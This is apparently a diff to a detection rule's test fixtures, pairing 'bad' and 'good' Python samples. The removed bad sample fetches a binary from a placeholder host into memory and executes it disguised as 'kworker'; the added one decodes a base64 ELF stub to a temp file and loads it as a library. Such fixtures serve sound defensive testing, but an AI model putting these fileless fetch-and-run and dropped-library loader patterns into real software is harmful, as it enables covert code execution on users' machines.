@@ -1,25 +1,20 @@
-#: bad inmemory
+#: bad dropped-library
+import base64
 import ctypes
 import os
-from urllib.request import urlopen
+import tempfile
 
+PAYLOAD = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAAAAEAAAAAAAA=="
+handle, path = tempfile.mkstemp(suffix=".so")
+os.write(handle, base64.b64decode(PAYLOAD))
+ctypes.CDLL(path)  #!
 
-def start(url="http://lib.vecmath.invalid/v.bin"):
-    libc = ctypes.CDLL(None)
-    number = libc.memfd_create(b"", 1)
-    os.write(number, urlopen(url).read())
-    path = f"/proc/self/fd/{number}"
-    os.execve(path, ["kworker"], os.environ) #!
-#: good inmemory
-import ctypes
+#: good dropped-library
+import base64
 import os
-from urllib.request import urlopen
+import tempfile
 
-
-def start(url="https://lib.vecmath.invalid/table.csv"):
-    libc = ctypes.CDLL(None)
-    libc.getpagesize.restype = ctypes.c_int
-    number = os.memfd_create("table")
-    os.write(number, urlopen(url, timeout=10).read())
-    os.lseek(number, 0, os.SEEK_SET)
-    return os.fdopen(number), libc.getpagesize()
+PIXEL = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
+handle, path = tempfile.mkstemp(suffix=".gif")
+os.write(handle, base64.b64decode(PIXEL))
+os.close(handle)
